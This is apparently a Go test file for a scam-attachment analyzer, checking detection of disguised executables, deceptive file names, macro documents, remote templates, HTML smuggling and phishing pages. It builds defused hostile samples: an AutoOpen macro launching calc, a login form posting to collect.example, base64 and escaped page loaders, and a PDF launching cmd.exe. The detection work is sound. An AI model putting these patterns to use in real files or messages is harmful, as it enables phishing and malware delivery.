package files

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"slices"
	"strings"
	"testing"

	"reportascam/analyze"
	"reportascam/analyze/cfb/cfbtest"
)

// entry is a file of an archive to be made.
type entry struct {
	name    string
	content string
}

func zipped(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, e := range entries {
		f, err := w.Create(e.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(e.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// lockedZip marks all entries of an archive as encrypted.
func lockedZip(t testing.TB, entries ...entry) []byte {
	b := zipped(t, entries...)
	for at := 0; ; {
		i := bytes.Index(b[at:], []byte("PK\x01\x02"))
		if i < 0 {
			break
		}
		at += i + 4
		b[at+4] |= 1
	}
	for at := 0; ; {
		i := bytes.Index(b[at:], []byte("PK\x03\x04"))
		if i < 0 {
			return b
		}
		at += i + 4
		b[at+2] |= 1
	}
}

func tarred(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	for _, e := range entries {
		if err := w.WriteHeader(&tar.Header{Name: e.name, Size: int64(len(e.content)), Mode: 0o600}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func gzipped(t testing.TB, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

const (
	somePNG = "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"
	somePDF = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction [3 0 R /FitH null] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
	someRTF = "{\\rtf1\\ansi hello}"
)

var (
	someEXE = "MZ" + strings.Repeat("\x00\x01\x90", 100)
	someLNK = "\x4C\x00\x00\x00\x01\x14\x02\x00" + strings.Repeat("\x00", 100)
	vbaCode = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n"
)

// module packs a source as MS-OVBA has it, in literal tokens only.
func module(src string) []byte {
	var chunk []byte
	for b := []byte(src); len(b) > 0; b = b[min(8, len(b)):] {
		chunk = append(chunk, 0)
		chunk = append(chunk, b[:min(8, len(b))]...)
	}
	n := len(chunk) - 1
	return append([]byte{1, byte(n), byte(n>>8) | 0xB0}, chunk...)
}

func macroProject(src string) *cfbtest.Node {
	return &cfbtest.Node{Name: "VBA", Nodes: []*cfbtest.Node{
		{Name: "dir", Data: []byte("dir")}, {Name: "Module1", Data: append([]byte("performance cache"), module(src)...)},
	}}
}

func docWithMacros(src string) []byte {
	return cfbtest.Build(&cfbtest.Node{Name: "Root Entry", Nodes: []*cfbtest.Node{
		{Name: "WordDocument", Data: bytes.Repeat([]byte{0}, 100)},
		{Name: "Macros", Nodes: []*cfbtest.Node{macroProject(src)}},
	}})
}

func docx(t testing.TB, more ...entry) []byte {
	return zipped(t, append([]entry{{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", "<w:document/>"}}, more...)...)
}

func relation(kind, target string) entry {
	return entry{"word/_rels/settings.xml.rels", `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` +
		kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`}
}

func one(t testing.TB, name, media string, content []byte) analyze.File {
	t.Helper()
	out, _ := look(&analyze.Original{Attachments: []analyze.Attachment{{Name: name, MediaType: media, Content: content, Size: len(content)}}})
	return out[0]
}

// deep gives the traits and types of a file and all in it.
func deep(f analyze.File) (traits []analyze.FileTrait, types []analyze.FileType) {
	traits, types = append(traits, f.Traits...), append(types, f.Type)
	for _, in := range f.Inside {
		t, y := deep(in)
		traits, types = append(traits, t...), append(types, y...)
	}
	return traits, types
}

func TestLook(t *testing.T) {
	smuggler := `<html><script>var a="` + base64.StdEncoding.EncodeToString(bytes.Repeat([]byte("payload "), 300)) +
		`";var b=new Blob([Uint8Array.from(atob(a),c=>c.charCodeAt(0))]);var u=document.createElement('a');u.href=URL.createObjectURL(b);u.download='bill.zip';u.click()</script></html>`
	login := `<html><body><form action="https://collect.example/p.php"><input type=email><input type=password></form></body></html>`
	wrapped := `<html><script>document.write(atob("` + base64.StdEncoding.EncodeToString([]byte(login)) + `"))</script></html>`
	escaped := `<script>document.write(unescape("` + percent(login) + `"))</script>`
	type T = analyze.FileTrait
	tests := []struct {
		name, file, media string
		content           string
		is                analyze.FileType
		want              []T
		inside            []analyze.FileType
	}{
		{"picture", "logo.png", "image/png", somePNG, analyze.FileImage, nil, nil},
		{"picture under another name", "logo.jpg", "image/jpeg", somePNG, analyze.FileImage, nil, nil},
		{"pdf that goes to its page", "bill.pdf", "application/pdf", somePDF, analyze.FilePDF, nil, nil},
		{"program as pdf", "bill.pdf", "application/pdf", someEXE, analyze.FilePE, []T{analyze.TraitDisguised}, nil},
		{"program", "setup.exe", "application/octet-stream", someEXE, analyze.FilePE, nil, nil},
		{"double ending", "bill.pdf.exe", "application/octet-stream", someEXE, analyze.FilePE, []T{analyze.TraitDoubleEnding}, nil},
		{"double ending with spaces", "bill.pdf" + strings.Repeat(" ", 40) + ".js", "", "var a=1", analyze.FileScript, []T{analyze.TraitPaddedName, analyze.TraitDoubleEnding}, nil},
		{"page as pdf by ending", "bill.pdf.html", "text/html", "<html>hello</html>", analyze.FileHTML, []T{analyze.TraitDoubleEnding}, nil},
		{"turned name", "bill\u202Efdp.exe", "", someEXE, analyze.FilePE, []T{analyze.TraitBidiName}, nil},
		{"name with an isolate, as phones write it", "\u2068Foto\u2069.png", "image/png", somePNG, analyze.FileImage, nil, nil},
		{"Hebrew name", "\u202Bחשבון\u202C.pdf", "application/pdf", somePDF, analyze.FilePDF, nil, nil},
		{"invisible", "bi\u200Bll.pdf", "application/pdf", somePDF, analyze.FilePDF, []T{analyze.TraitInvisibleName}, nil},
		{"family emoji", "👨\u200D👩\u200D👧.png", "image/png", somePNG, analyze.FileImage, nil, nil},
		{"zipped pdf", "bill.pdf.zip", "application/zip", string(zipped(t, entry{"bill.pdf", somePDF})), analyze.FileZIP, nil, []analyze.FileType{analyze.FilePDF}},
		{"host as name", "mail.example.com", "message/rfc822", "Received: x\n\nhello", analyze.FileMessage, nil, nil},
		{"mislabelled", "meeting.ics", "application/pdf", "BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", analyze.FileCalendar, []T{analyze.TraitMislabelled}, nil},
		{"script in zip", "a.zip", "application/zip", string(zipped(t, entry{"x/bill.js", "var a"})), analyze.FileZIP, nil, []analyze.FileType{analyze.FileScript}},
		{"zip in zip", "a.zip", "", string(zipped(t, entry{"b.zip", string(zipped(t, entry{"run.exe", someEXE}))})), analyze.FileZIP, nil, []analyze.FileType{analyze.FileZIP, analyze.FilePE}},
		{"locked zip", "a.zip", "", string(lockedZip(t, entry{"bill.exe", someEXE})), analyze.FileZIP, []T{analyze.TraitEncrypted, analyze.TraitEncrypted}, []analyze.FileType{analyze.FilePE}},
		{"path", "a.zip", "", string(zipped(t, entry{"../../x.txt", "x"})), analyze.FileZIP, []T{analyze.TraitPathEscape}, []analyze.FileType{analyze.FileText}},
		{"tar.gz", "a.tar.gz", "", string(gzipped(t, tarred(t, entry{"a/run.bat", "del"}, entry{"b.txt", "x"}))), analyze.FileGZIP, nil, []analyze.FileType{analyze.FileTAR, analyze.FileScript, analyze.FileText}},
		{"gz of a report", "r.xml.gz", "application/gzip", string(gzipped(t, []byte("<?xml version=\"1.0\"?><feedback/>"))), analyze.FileGZIP, nil, []analyze.FileType{analyze.FileXML}},
		{"zip as pdf", "bill.pdf", "application/pdf", string(zipped(t, entry{"a.txt", "x"})), analyze.FileZIP, []T{analyze.TraitDisguised}, []analyze.FileType{analyze.FileText}},
		{"archive behind a picture", "a.png", "image/png", somePNG + string(zipped(t, entry{"a.js", "x"})), analyze.FileImage, []T{analyze.TraitAppended}, []analyze.FileType{analyze.FileScript}},
		{"shortcut", "a.lnk", "", someLNK, analyze.FileLNK, nil, nil},
		{"shortcut to a server", "a.url", "", "[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.exe\r\n", analyze.FileURL, []T{analyze.TraitRemote}, nil},
		{"internet shortcut", "a.url", "", "[InternetShortcut]\r\nURL=https://www.example.com/\r\n", analyze.FileURL, nil, nil},
		{"docx", "a.docx", "", string(docx(t)), analyze.FileDOCX, nil, nil},
		{"docx as docm with macros", "a.docm", "", string(docx(t, entry{"word/vbaProject.bin", string(cfbtest.Build(&cfbtest.Node{Name: "R", Nodes: []*cfbtest.Node{macroProject(vbaCode)}}))})),
			analyze.FileDOCX, []T{analyze.TraitMacros, analyze.TraitAutorun}, nil},
		{"doc with macros", "a.doc", "", string(docWithMacros(vbaCode)), analyze.FileDOC, []T{analyze.TraitMacros, analyze.TraitAutorun}, nil},
		{"doc with an empty project", "a.doc", "", string(docWithMacros("Attribute VB_Name = \"ThisDocument\"\r\nOption Explicit\r\n")), analyze.FileDOC, nil, nil},
		{"doc as docx", "a.docx", "", string(docWithMacros(vbaCode)), analyze.FileDOC, []T{analyze.TraitMacros, analyze.TraitAutorun}, nil},
		{"remote template", "a.docx", "", string(docx(t, relation("attachedTemplate", "https://evil.example/t.dotm"))), analyze.FileDOCX, []T{analyze.TraitRemoteTemplate}, nil},
		{"template on the writer's disk", "a.docx", "", string(docx(t, relation("attachedTemplate", "file:///C:\\Templates\\letter.dotx"))), analyze.FileDOCX, nil, nil},
		{"hyperlink", "a.docx", "", string(docx(t, relation("hyperlink", "https://www.example.com/"))), analyze.FileDOCX, nil, nil},
		{"macro sheet", "a.xlsm", "", string(zipped(t, entry{"[Content_Types].xml", ""}, entry{"xl/workbook.xml", ""}, entry{"xl/macrosheets/sheet1.xml", "x"})), analyze.FileXLSX, []T{analyze.TraitXLM}, nil},
		{"locked office", "a.xlsx", "", string(cfbtest.Build(&cfbtest.Node{Name: "R", Nodes: []*cfbtest.Node{{Name: "EncryptedPackage", Data: []byte("x")}, {Name: "EncryptionInfo", Data: []byte("x")}}})), analyze.FileXLSX, []T{analyze.TraitEncrypted}, nil},
		{"xls with a macro sheet", "a.xls", "", string(cfbtest.Build(&cfbtest.Node{Name: "R", Nodes: []*cfbtest.Node{{Name: "Workbook", Data: []byte("\x09\x08\x02\x00\x00\x06\x85\x00\x08\x00\x00\x00\x00\x00\x00\x01\x01\x00")}}})), analyze.FileXLS, []T{analyze.TraitXLM}, nil},
		{"rtf", "a.doc", "application/msword", someRTF, analyze.FileRTF, nil, nil},
		{"rtf with a package", "a.rtf", "", "{\\rtf1{\\object\\objemb{\\*\\objdata " + hexOf("\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00\x00\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00\x02\x00a.exe\x00C:\\a.exe\x00\x00\x00\x03\x00\x09\x00\x00\x00C:\\a.exe\x00\x40\x01\x00\x00"+someEXE) + "}}}",
			analyze.FileRTF, []T{analyze.TraitEmbedded}, []analyze.FileType{analyze.FilePE}},
		{"notebook with a script", "a.one", "", "\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3" + strings.Repeat("\x00", 50) + "\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC" +
			"\x0A\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\x00", 12) + "@echo off\n", analyze.FileOneNote, []T{analyze.TraitEmbedded}, []analyze.FileType{analyze.FileScript}},
		{"smuggling page", "a.html", "text/html", smuggler, analyze.FileHTML, []T{analyze.TraitHasScript, analyze.TraitSmuggles, analyze.TraitObfuscated}, nil},
		{"login page", "a.html", "text/html", login, analyze.FileHTML, []T{analyze.TraitPassword, analyze.TraitForm}, nil},
		{"packed login page", "a.html", "text/html", wrapped, analyze.FileHTML, []T{analyze.TraitHasScript, analyze.TraitPassword, analyze.TraitForm, analyze.TraitObfuscated}, nil},
		{"escaped login page", "a.htm", "text/html", escaped, analyze.FileHTML, []T{analyze.TraitHasScript, analyze.TraitPassword, analyze.TraitForm, analyze.TraitObfuscated}, nil},
		{"page", "signature.html", "text/html", "<html><body><p>Kind regards<br>Ann</p><a href=\"https://www.example.com\">us</a></body></html>", analyze.FileHTML, nil, nil},
		{"svg", "logo.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>", analyze.FileSVG, nil, nil},
		{"svg with a script", "a.svg", "image/svg+xml", "<?xml version=\"1.0\"?><svg><script>window.location.href='https://x.example'</script></svg>", analyze.FileSVG, []T{analyze.TraitHasScript, analyze.TraitRedirects}, nil},
		{"svg with a page", "a.svg", "image/svg+xml", "<svg><foreignObject><iframe src='https://x.example'></iframe></foreignObject></svg>", analyze.FileSVG, []T{analyze.TraitForeignPage}, nil},
		{"page as picture", "a.jpg", "image/jpeg", login, analyze.FileHTML, []T{analyze.TraitPassword, analyze.TraitForm, analyze.TraitDisguised}, nil},
		{"table as Excel", "report.xls", "application/vnd.ms-excel", "<html><table><tr><td>1</td></tr></table></html>", analyze.FileHTML, nil, nil},
		{"pdf with a script", "a.pdf", "", "%PDF-1.4\n1 0 obj\n<</OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>>>\nendobj\n%%EOF", analyze.FilePDF, []T{analyze.TraitJavaScript, analyze.TraitOpensItself}, nil},
		{"pdf that launches", "a.pdf", "", "%PDF-1.4\n1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n%%EOF", analyze.FilePDF, []T{analyze.TraitLaunch}, nil},
		{"locked pdf", "a.pdf", "", lockedPDF("secret"), analyze.FilePDF, []T{analyze.TraitEncrypted}, nil},
		{"pdf that may not be printed", "a.pdf", "", lockedPDF(""), analyze.FilePDF, nil, nil},
		{"invitation", "invite.ics", "text/calendar", "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nDESCRIPTION:see htt\r\n ps://x.example/\r\nEND:VCALENDAR\r\n", analyze.FileCalendar, []T{analyze.TraitInvite, analyze.TraitLinks}, nil},
		{"profile", "mail.mobileconfig", "", "<?xml version=\"1.0\"?><!DOCTYPE plist><plist><dict><key>PayloadContent</key></dict></plist>", analyze.FileProfile, nil, nil},
		{"message with a program", "a.eml", "message/rfc822", "From: a@b.example\nMIME-Version: 1.0\nContent-Type: application/octet-stream; name=\"a.exe\"\nContent-Disposition: attachment\n\n" + someEXE, analyze.FileMessage, nil, []analyze.FileType{analyze.FilePE}},
		{"7z", "a.7z", "", plain7z("run.js", "b.txt"), analyze.File7Z, nil, []analyze.FileType{analyze.FileScript, analyze.FileText}},
		{"7z with hidden names", "a.7z", "", hidden7z(), analyze.File7Z, []T{analyze.TraitEncrypted, analyze.TraitNamesEncrypted}, nil},
		{"rar 5", "a.rar", "", rar5("run.js", false), analyze.FileRAR, nil, []analyze.FileType{analyze.FileScript}},
		{"rar 5 locked", "a.rar", "", rar5("run.js", true), analyze.FileRAR, []T{analyze.TraitEncrypted, analyze.TraitEncrypted}, []analyze.FileType{analyze.FileScript}},
		{"rar 4", "a.rar", "", rar4("run.js"), analyze.FileRAR, nil, []analyze.FileType{analyze.FileScript}},
		{"disk image", "a.iso", "", isoImage("RUN.LNK;1", someLNK), analyze.FileISO, nil, []analyze.FileType{analyze.FileLNK}},
		{"cabinet", "a.cab", "", cabinet("run.exe"), analyze.FileCAB, nil, []analyze.FileType{analyze.FilePE}},
		{"empty", "a.pdf", "application/pdf", "", analyze.FileEmpty, nil, nil},
		{"not what it claims", "a.pdf", "application/pdf", "\x00\x01\x02\x03", analyze.FileUnknown, nil, nil},
	}
	for _, tt := range tests {
		f := one(t, tt.file, tt.media, []byte(tt.content))
		traits, types := deep(f)
		slices.Sort(traits)
		want := slices.Clone(tt.want)
		slices.Sort(want)
		if types[0] != tt.is || !slices.Equal(traits, want) || !slices.Equal(types[1:], tt.inside) {
			t.Errorf("%s: Look = %v %v, want %v %v %v", tt.name, types, traits, tt.is, tt.inside, want)
		}
	}
}

func TestTellsPassword(t *testing.T) {
	for text, want := range map[string]bool{
		"The password for the attached archive is: 4711": true,
		"Passwort: geheim":                            true,
		"Das Passwort lautet 2024":                    true,
		"mot de passe : abc":                          true,
		"密码：1234":                                     true,
		"Never tell anybody your password.":           false,
		"Your password has expired. Go to: https://x": false,
		"reset your password: https://x.example/":     false,
		"opwo": false,
	} {
		if got := tellsPassword("Bill", text); got != want {
			t.Errorf("tellsPassword(%q) = %v, want %v", text, got, want)
		}
	}
}

func TestSameName(t *testing.T) {
	out := Look(&analyze.Original{Attachments: []analyze.Attachment{
		{Name: "a.pdf", SHA256: "1", Content: []byte(somePDF)}, {Name: "A.pdf", SHA256: "2", Content: []byte(someEXE)}, {Name: "b.pdf", SHA256: "1", Content: []byte(somePDF)},
	}})
	for i, want := range []bool{true, true, false} {
		if got := out[i].Has(analyze.TraitSameName); got != want {
			t.Errorf("file %d: same name %v, want %v", i, got, want)
		}
	}
}
